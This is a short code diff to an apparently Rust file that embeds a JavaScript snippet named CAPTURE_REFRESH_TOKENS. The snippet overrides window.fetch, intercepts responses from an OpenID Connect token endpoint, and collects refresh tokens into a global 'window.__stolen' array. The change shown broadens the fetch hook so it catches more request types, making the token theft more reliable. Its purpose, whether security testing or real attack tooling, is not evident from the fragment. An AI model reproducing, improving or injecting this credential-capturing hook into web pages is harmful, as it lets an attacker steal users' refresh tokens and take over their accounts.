@@ -107,7 +107,8 @@ const CAPTURE_REFRESH_TOKENS: &str = r#"
     const realFetch = window.fetch;
     window.fetch = async function (input, init) {
         const response = await realFetch.apply(this, arguments);
-        const url = typeof input === "string" ? input : input.url;
+        // Any input fetch takes: a string, a URL (the parts' loader), a Request.
+        const url = input instanceof Request ? input.url : String(input);
         if (url.includes("/protocol/openid-connect/token")) {
             response.clone().json().then((body) => {
                 if (body.refresh_token) window.__stolen.push(body.refresh_token);
